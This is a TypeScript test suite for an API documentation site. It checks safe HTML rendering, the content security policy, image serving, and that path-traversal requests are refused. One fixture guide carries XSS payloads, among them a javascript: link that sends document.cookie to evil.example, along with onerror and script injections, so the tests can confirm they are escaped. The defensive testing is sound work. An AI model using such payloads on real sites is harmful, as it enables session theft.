import assert from 'node:assert/strict';
import type { Server } from 'node:http';
import Koa from 'koa';
import Router from '@koa/router';
import { useHarness, type Harness } from '../support/stack/harness';
import { docsRoutes } from '../../api/routes/docs';
import { buildOpenApiDocument } from '../../api/openapi/document';
import { buildDocsSite } from '../../api/docs/site';
import type { OpenApiDocument } from '../../api/openapi/operations';
import { loadDocSources } from '../../api/docs/load';

const guides = loadDocSources().guides;
const titleOf = (text: string) => /^# (.+)$/m.exec(text)![1];
const slugOf = (path: string) => path.replace(/^docs\//, '').replace(/\.md$/, '');

function assertSafePage(response: { headers: Headers; body: string }, where: string): void {
  assert.match(response.headers.get('content-type')!, /^text\/html/, where);
  const csp = response.headers.get('content-security-policy') ?? '';
  assert.match(csp, /default-src 'none'/, `${where}: ${csp}`);
  assert.doesNotMatch(csp, /script-src|unsafe-eval/, where);
  assert.doesNotMatch(
    response.body,
    /<script|<iframe|<link[^>]+href="https?:|src="https?:/i,
    `${where} loads or runs something`,
  );
  assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
}

describe('docs page', function () {
  let h: Harness;

  before(async function () {
    this.timeout(180_000);
    h = await useHarness();
  });

  it('lists every guide and renders the reference with an anchor per operation and schema', async function () {
    const page = await h.http('GET', '/api/v1/docs');
    assert.equal(page.status, 200);
    assertSafePage(page, '/api/v1/docs');
    for (const guide of guides) {
      assert.ok(
        page.body.includes(`<a href="/api/v1/docs/guides/${slugOf(guide.path)}">${titleOf(guide.text)}</a>`),
        `${guide.path} is not listed`,
      );
    }
    const document = (await h.http('GET', '/api/v1/openapi.json')).body;
    for (const [path, item] of Object.entries(document.paths) as [string, Record<string, { operationId: string }>][]) {
      for (const [method, operation] of Object.entries(item)) {
        assert.match(operation.operationId, /^[a-z]+[A-Za-z]+$/, `${method} ${path}`);
        assert.ok(page.body.includes(`id="operation/${operation.operationId}"`), `no anchor for ${method} ${path}`);
      }
    }
    for (const name of Object.keys(document.components.schemas))
      assert.ok(page.body.includes(`id="schema/${name}"`), name);
    assert.match(page.body, /href="\/api\/v1\/openapi\.json"/);
    const css = await h.http('GET', '/api/v1/docs/style.css');
    assert.equal(css.status, 200);
    assert.match(css.headers.get('content-type')!, /^text\/css/);
  });

  it('renders each guide as HTML, with links to other guides and to the reference made into docs-page links', async function () {
    for (const guide of guides) {
      const response = await h.http('GET', `/api/v1/docs/guides/${slugOf(guide.path)}`);
      assert.equal(response.status, 200, guide.path);
      assertSafePage(response, guide.path);
      assert.match(
        response.body,
        new RegExp(
          `<h1 id="[^"]+"><a class="anchor" href="#[^"]+">${titleOf(guide.text).replace(/[()]/g, '\\$&')}</a></h1>`,
        ),
        guide.path,
      );
    }
    const start = (await h.http('GET', '/api/v1/docs/guides/getting-started')).body;
    assert.match(start, /<a href="\/api\/v1\/docs\/guides\/jobs-and-polling">Jobs and polling<\/a>/);
    assert.match(start, /<a href="\/api\/v1\/docs#operation\/createScrapeJob">POST \/scrape<\/a>/);
    assert.match(start, /<pre><code class="language-sh">curl -sS &quot;\$BASE_URL\/health&quot;<\/code><\/pre>/);
    const webhooks = (await h.http('GET', '/api/v1/docs/guides/webhooks')).body;
    assert.match(webhooks, /<h2 id="verifying-the-signature">/);
    const readme = await h.http('GET', '/api/v1/docs/readme');
    assert.equal(readme.status, 200);
    assertSafePage(readme, 'README');
  });

  it("serves the console guide's pictures (docs/console/*.png) and nothing else from there", async function () {
    const page = await h.http('GET', '/api/v1/docs/guides/console');
    assert.equal(page.status, 200);
    assertSafePage(page, 'console guide');
    const sources = [...page.body.matchAll(/<img src="([^"]+)" alt="([^"]+)">/g)];
    const pictures = guides
      .find((g) => g.path === 'docs/console.md')!
      .text.match(/!\[[^\]]*\]\(console\/[a-z0-9-]+\.png\)/g);
    assert.ok(pictures && pictures.length > 0, 'docs/console.md shows the pages');
    assert.equal(sources.length, pictures.length, 'every picture of the guide is shown');
    for (const [, src] of sources) {
      assert.match(src!, /^\/api\/v1\/docs\/console\/[a-z0-9-]+\.png$/);
      const response = await fetch(`${h.baseUrl}${src}`);
      const body = Buffer.from(await response.arrayBuffer());
      assert.equal(response.status, 200, src);
      assert.equal(response.headers.get('content-type'), 'image/png');
      assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
      assert.deepEqual([...body.subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], `${src} is a PNG`);
      assert.ok(body.length < 150 * 1024, `${src} is ${body.length} bytes`);
    }
    for (const path of ['nothing-here.png', '..%2Fconsole.md', 'market.PNG', '.env']) {
      const response = await fetch(`${h.baseUrl}/api/v1/docs/console/${path}`);
      assert.equal(response.status, 404, path);
    }
  });

  it('answers an unknown guide with the API error body', async function () {
    const response = await h.http('GET', '/api/v1/docs/guides/no-such-guide');
    assert.equal(response.status, 404);
    assert.equal(response.body.error.code, 'not_found');
  });
});

describe('docs page with hostile guide content', function () {
  let server: Server;
  let base: string;

  before(async function () {
    const site = buildDocsSite({
      guides: [
        {
          path: 'docs/evil.md',
          text: [
            '---',
            'summary: "<img src=x onerror=alert(1)>"',
            'order: 1',
            '---',
            '# Evil <script>alert(1)</script>',
            '',
            '[steal](javascript:fetch(`//evil.example/?c=${document.cookie}`)) <iframe src="https://evil.example"></iframe>',
            '',
            '<a href="https://evil.example" onclick="alert(1)">raw link</a>',
          ].join('\n'),
        },
      ],
      readme: null,
      openapi: buildOpenApiDocument() as OpenApiDocument,
    });
    const app = new Koa();
    const router = new Router({ prefix: '/api/v1' });
    const docs = docsRoutes(site, { docsMcp: { url: null, rateLimitPerMinute: 120 } });
    router.use(docs.routes());
    app.use(router.routes());
    await new Promise<void>((resolve) => {
      server = app.listen(0, '127.0.0.1', resolve);
    });
    base = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
  });

  after(async function () {
    await new Promise<void>((resolve) => server.close(() => resolve()));
  });

  it('shows the guide as text and never as markup or script', async function () {
    for (const path of ['/api/v1/docs/guides/evil', '/api/v1/docs']) {
      const response = await fetch(`${base}${path}`);
      const body = await response.text();
      assert.equal(response.status, 200, path);
      assertSafePage({ headers: response.headers, body }, path);
      assert.doesNotMatch(body, /<img|<[a-z][^>]*\son\w+=|javascript:|href="https:\/\/evil/i, path);
    }
    const guide = await (await fetch(`${base}/api/v1/docs/guides/evil`)).text();
    assert.match(guide, /Evil &lt;script&gt;alert\(1\)&lt;\/script&gt;/);
    assert.match(guide, /&lt;a href=&quot;https:\/\/evil\.example&quot; onclick/);
  });
});
